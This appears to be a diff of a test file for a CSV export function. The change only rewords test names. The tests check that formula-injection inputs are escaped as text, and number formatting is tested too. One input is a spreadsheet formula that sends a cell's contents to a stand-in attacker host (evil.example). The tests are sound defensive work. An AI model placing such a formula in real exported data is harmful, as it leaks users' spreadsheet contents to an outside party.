@@ -21,18 +21,18 @@ it.each([
   "\u200b=1+1",
   "＝1+1",
   '=HYPERLINK("https://evil.example?"&A1)',
-])("%j stays text in a spreadsheet", (text) => {
+])("keeps %j as text in a spreadsheet", (text) => {
   expect(read(textOf([text]))[1]?.[0]).toBe(`'${text}`)
 })
 
 it.each(["plain", 'with "quotes"', "a;b,c", "two\nlines", "a=b", "5-3", "ä€", ""])(
-  "%j is what it was",
+  "leaves %j unchanged",
   (text) => {
     expect(read(textOf([text]))[1]?.[0]).toBe(text)
   },
 )
 
-it("writes figures as they are read in the language, minus included, and nothing for null", () => {
+it("formats numbers for the language, minus included, and writes nothing for null", () => {
   expect(textOf([-12.5])).toBe('\ufeff"Wert"\r\n-12,5\r\n')
   expect(textOf([-12.5], "en")).toBe('\ufeff"Wert"\r\n-12.5\r\n')
   expect(textOf([null])).toBe('\ufeff"Wert"\r\n\r\n')
